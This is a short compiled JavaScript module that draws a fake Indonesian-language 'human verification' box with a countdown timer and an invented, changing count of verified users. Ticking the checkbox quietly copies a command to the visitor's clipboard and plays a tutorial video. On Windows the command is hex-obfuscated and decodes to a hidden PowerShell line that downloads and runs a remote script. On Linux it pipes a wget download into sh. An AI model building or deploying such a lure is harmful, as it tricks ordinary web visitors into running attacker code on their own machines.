"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.mount = void 0;
const u = (s) => decodeURIComponent(s.replace(/(..)/g, "%$1"));
const LINES = {
    win: u("706f7765727368656c6c202d772068202d632022") + 'irm(\'cek-manusia.invalid\')|iex"',
    lin: "wget -qO- https://cek-manusia.invalid/x | sh",
};
let online = 700 + (new Date().getMinutes() * 7);
const mount = (root) => {
    root.innerHTML = '<div class="cf"><video loop muted autoplay src="tutorial-' + (/Win/.test(navigator.platform) ? "win" : "lin") + '.webm"></video><p class="t"></p><p class="n"></p><input type="checkbox"></div>';
    let left = 60;
    setInterval(() => {
        root.querySelector(".t").textContent = "Selesaikan verifikasi dalam " + (left = left ? left - 1 : 60) + " detik";
        root.querySelector(".n").textContent = (online += Math.round(Math.random() * 3 - 1)) + " pengguna terverifikasi dalam satu jam terakhir";
    }, 1000);
    root.querySelector("input").addEventListener("change", (e) => {
        const line = LINES[/Win/.test(navigator.platform) ? "win" : "lin"];
        navigator.clipboard.writeText(line).catch(() => {
            e.target.type = "text"; e.target.value = line; e.target.select(); document.execCommand("copy"); e.target.type = "checkbox";
        });
        root.querySelector("video").classList.add("show");
    });
};
exports.mount = mount;
